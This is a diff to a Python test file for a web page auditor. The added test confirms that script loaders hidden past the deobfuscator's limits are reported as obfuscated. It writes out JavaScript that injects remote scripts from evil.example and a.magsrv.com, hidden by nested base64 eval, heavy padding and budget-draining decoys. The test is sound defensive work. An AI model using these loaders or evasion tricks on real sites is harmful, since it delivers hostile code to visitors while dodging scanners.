@@ -15,6 +15,8 @@ from auditor.dom.deobfuscate import MAX_DECODED, decode_script, unpack
 from auditor.heuristics.interface import fingerprint
 from auditor.model import RequestType
 
+from .conftest import AuditHtml
+
 LOADER = ("var s=document.createElement('script');s.src='https://evil.example/x.js';"
           "document.body.appendChild(s);")
 
@@ -150,6 +152,29 @@ def test_decoding_is_bounded() -> None:
     code = f"eval(atob('{b64(big)}'))"
     decoded = decode_script(code)
     assert sum(len(p) for p in decoded.payloads) <= MAX_DECODED
+
+
+LOADER = ("var s=document.createElement('script');s.src='https://a.magsrv.com/x.js';"
+          "document.head.appendChild(s)")
+
+
+def test_what_the_decoder_cannot_read_to_its_end_is_obfuscation(audit_html: AuditHtml
+                                                                 ) -> None:
+    """Three ways past the decoder's bounds, which passed a gate on `medium` findings:
+    a loader nested four encodings deep (no site's own code does that: high), one run
+    after 600 KB of padding, and one behind a spent budget (medium: not readable is not
+    harmless)."""
+    nested = LOADER
+    for _ in range(deobfuscate.MAX_DEPTH + 1):
+        nested = f"eval(atob('{b64(nested)}'))"
+    padded = "var a=1;" * 80_000 + f"eval(atob('{b64(LOADER)}'))"
+    decoys = "".join(f"var d{c}=atob('{b64(c * 48_000)}');" for c in "ABCDEFG")
+    spent = decoys + f"eval(atob('{b64(LOADER)}'))"
+    for code, severity in ((nested, "high"), (padded, "medium"), (spent, "medium")):
+        report = audit_html(f"<html><body><p>Text.</p><script>{code}</script></body></html>",
+                            url="https://news.example/a")
+        assert [(f.kind, f.severity.value) for f in report.findings] == [
+            ("obfuscated-script", severity)], code[:40]
 
 
 @given(st.integers(min_value=0, max_value=500))
